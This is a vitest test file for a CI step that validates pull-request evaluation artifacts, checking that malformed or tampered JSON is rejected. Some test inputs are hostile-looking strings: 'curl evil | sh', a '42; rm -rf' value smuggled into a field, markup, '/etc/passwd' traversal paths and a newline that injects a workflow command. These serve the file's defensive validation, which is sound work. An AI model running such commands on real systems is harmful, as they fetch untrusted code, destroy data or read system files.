import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ARTIFACT_MAX_BYTES } from '../../scripts/core/limits.ts';
import {
  ArtifactRejectedError,
  buildArtifact,
  type EvaluationArtifact,
  readArtifact,
  writeArtifact,
} from '../../scripts/pull-request/artifact.ts';
import type { FileResult } from '../../scripts/run/pipeline.ts';
import {
  DIGEST,
  evaluation,
  HEAD_SHA,
  hostileCalnet,
  incompleteCgen,
  invalidCalnetWithFindings,
  readyCalnet,
} from '../support/evaluations.ts';

const scratch = mkdtempSync(join(tmpdir(), 'artifact-test-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

let counter = 0;
function fileWith(content: unknown): string {
  const file = join(scratch, `artifact-${counter++}.json`);
  writeFileSync(file, typeof content === 'string' ? content : JSON.stringify(content));
  return file;
}

function rejection(file: string, headSha = HEAD_SHA): string {
  try {
    readArtifact(file, headSha);
  } catch (error) {
    expect(error).toBeInstanceOf(ArtifactRejectedError);
    return (error as Error).message;
  }
  throw new Error('the artifact was accepted');
}

const good = (): EvaluationArtifact =>
  structuredClone(evaluation([readyCalnet, incompleteCgen, hostileCalnet, invalidCalnetWithFindings]));

describe('the result artifact', () => {
  it('round-trips: what the evaluation writes, a reader accepts', () => {
    const file = join(scratch, 'out/evaluation.json');
    writeArtifact(file, good());
    expect(readArtifact(file, HEAD_SHA)).toEqual(good());
  });

  it('is rejected when oversized, before it is parsed', () => {
    const file = fileWith(`{"pad":"${'x'.repeat(ARTIFACT_MAX_BYTES)}"}`);
    expect(rejection(file)).toMatch(/over the limit of 1048576 bytes/);
  });

  it('is rejected when it is not JSON', () => {
    expect(rejection(fileWith('{"format": 1,'))).toBe('the artifact is not valid JSON');
  });

  it('is rejected when it is a symbolic link', () => {
    const target = fileWith(good());
    const link = join(scratch, 'link.json');
    symlinkSync(target, link);
    expect(rejection(link)).toBe('the artifact is not a regular file');
  });

  it.each([
    ['an unknown property', (a: EvaluationArtifact) => Object.assign(a, { script: 'curl evil | sh' })],
    [
      'an unknown outcome',
      (a: EvaluationArtifact) => Object.assign(a.results[0]?.decision ?? {}, { outcome: 'approved' }),
    ],
    [
      'a non-integer pull request',
      (a: EvaluationArtifact) => Object.assign(a.pull_request, { number: '42; rm -rf' }),
    ],
    [
      'a deficiency code with markup',
      (a: EvaluationArtifact) => {
        const d = a.results[1]?.decision?.deficiencies[0];
        if (d) d.code = '<img src=x>';
      },
    ],
    [
      'an overlong message',
      (a: EvaluationArtifact) => {
        const d = a.results[1]?.decision?.deficiencies[0];
        if (d) d.message = 'x'.repeat(5000);
      },
    ],
    ['a malformed digest', (a: EvaluationArtifact) => Object.assign(a.policy, { digest: 'md5:abc' })],
    [
      'provisional findings on a valid file',
      (a: EvaluationArtifact) =>
        Object.assign(a.results[1] ?? {}, { provisional: invalidCalnetWithFindings.provisional }),
    ],
    [
      'provisional findings carrying an outcome',
      (a: EvaluationArtifact) => Object.assign(a.results[3]?.provisional ?? {}, { outcome: 'incomplete' }),
    ],
    [
      'more provisional findings than the writer keeps',
      (a: EvaluationArtifact) => {
        const p = a.results[3]?.provisional;
        if (p) p.deficiencies = Array.from({ length: 101 }, () => p.deficiencies[0] as never);
      },
    ],
    [
      'a result file outside requests/',
      (a: EvaluationArtifact) => Object.assign(a.results[0] ?? {}, { file: 'scripts/x.yaml' }),
    ],
  ])('is rejected when it has %s', (_, spoil) => {
    const artifact = good();
    spoil(artifact);
    expect(rejection(fileWith(artifact))).toMatch(
      /does not match schemas\/evaluation-artifact\.schema\.json/,
    );
  });

  it.each([
    ['a parent-directory path', 'policies/../../../etc/passwd'],
    ['an absolute path', '/etc/passwd'],
    ['a path with a space', 'policies/a b.rego'],
    ['a path with a newline', 'policies/a\n::error::x'],
  ])('is rejected when it names %s', (_, path) => {
    const artifact = good();
    artifact.integrity.judging_files.push({ path, group: 'policies' });
    expect(rejection(fileWith(artifact))).toMatch(/unsafe path|does not match/);
  });

  it('is rejected when its head commit is not the one GitHub reported for the run', () => {
    const message = rejection(fileWith(good()), 'a'.repeat(40));
    expect(message).toBe(
      `the artifact names head commit ${HEAD_SHA}, but the evaluation run was for ${'a'.repeat(40)}`,
    );
  });

  it('is rejected when the expected head commit is not a commit id', () => {
    expect(rejection(fileWith(good()), 'main')).toBe('the expected head commit is not a commit id');
  });

  it('refuses to write an artifact a reader would reject', () => {
    const artifact = good();
    artifact.pull_request.number = 0;
    expect(() => writeArtifact(join(scratch, 'never.json'), artifact)).toThrow(ArtifactRejectedError);
  });
});

describe('building the artifact', () => {
  const result = (file: string, messages: number, messageLength = 100): FileResult => ({
    file,
    id: 'x',
    valid: true,
    errors: [],
    positions: { '/a': { line: 3, column: 2 }, '/not-a-deficiency': { line: 9, column: 1 } },
    decision: {
      outcome: 'incomplete',
      program: 'calnet',
      reasons: [],
      grounds: [],
      deficiencies: Array.from({ length: messages }, (_, i) => ({
        code: i === 0 ? 'Bad Code!' : 'cost-total-mismatch',
        path: '/a',
        message: 'm'.repeat(messageLength),
        citation: 'CALNET MSA policy, Procedures',
      })),
      notes: [],
      approver: null,
      citations: [],
    },
  });
  const input = (results: FileResult[]) => ({
    pullRequest: { number: 7, baseSha: 'b'.repeat(40), headSha: HEAD_SHA },
    report: { policy: { digest: DIGEST }, evaluationDate: '2026-11-22', results },
    integrity: {
      tripped: true,
      requestFiles: ['requests/calnet/a.yaml', 'requests/calnet/we ird.yaml'],
      judgingFiles: [{ path: 'schemas/request.schema.json', group: 'schemas' as const }],
    },
    removedRequests: [],
    misplacedFiles: [],
    unsafePaths: 0,
  });

  it('clamps text, sanitises codes, keeps only the positions deficiencies use, counts unsafe names', () => {
    const artifact = buildArtifact(input([result('requests/calnet/a.yaml', 2, 5000)]));
    const d = artifact.results[0]?.decision?.deficiencies;
    expect(d?.[0]?.code).toBe('unnamed');
    expect(d?.[0]?.message.length).toBe(2000);
    expect(artifact.results[0]?.positions).toEqual({ '/a': { line: 3, column: 2 } });
    expect(artifact.unsafe_paths).toBe(1);
    expect(artifact.integrity.request_files).toEqual(['requests/calnet/a.yaml']);
  });

  it("carries an invalid file's provisional findings, clamped, with their positions, and nothing more of them", () => {
    const valid = result('requests/calnet/a.yaml', 1);
    const judged = result('requests/calnet/b.yaml', 120, 5000).decision;
    if (!judged) throw new Error('the helper gives a decision');
    const invalid: FileResult = {
      ...valid,
      file: 'requests/calnet/b.yaml',
      valid: false,
      decision: null,
      errors: [{ file: 'requests/calnet/b.yaml', line: 5, column: 1, path: '/b', message: 'not a number' }],
      provisional: {
        ...judged,
        approver: 'the Director',
        notes: [{ code: 'central-file', message: 'keep a file', citation: 'c' }],
      },
    };
    const artifact = buildArtifact(input([invalid, { ...valid, provisional: judged }]));
    const [kept, other] = artifact.results;
    expect(Object.keys(kept?.provisional ?? {})).toEqual(['program', 'approver', 'deficiencies']);
    expect(kept?.provisional?.approver).toBe('the Director');
    expect(kept?.provisional?.deficiencies).toHaveLength(100);
    expect(kept?.provisional?.deficiencies[1]?.message.length).toBe(2000);
    expect(kept?.omitted).toBe(20);
    expect(kept?.positions).toEqual({ '/a': { line: 3, column: 2 } });
    expect(other?.provisional).toBeNull();
    const file = join(scratch, 'provisional.json');
    writeArtifact(file, artifact);
    expect(readArtifact(file, HEAD_SHA).results[0]?.provisional).toEqual(kept?.provisional);
  });

  it('shrinks to the size cap and counts what it leaves out', () => {
    const results = Array.from({ length: 30 }, (_, i) => result(`requests/calnet/r-${i}.yaml`, 100, 1800));
    const artifact = buildArtifact(input(results));
    expect(Buffer.byteLength(JSON.stringify(artifact))).toBeLessThanOrEqual(ARTIFACT_MAX_BYTES);
    const kept = artifact.results.reduce((n, r) => n + (r.decision?.deficiencies.length ?? 0), 0);
    const omitted = artifact.results.reduce((n, r) => n + r.omitted, 0);
    expect(kept + omitted).toBe(30 * 100);
    expect(omitted).toBeGreaterThan(0);
    const file = join(scratch, 'shrunk.json');
    writeArtifact(file, artifact);
    expect(readArtifact(file, HEAD_SHA).results).toHaveLength(30);
  });
});
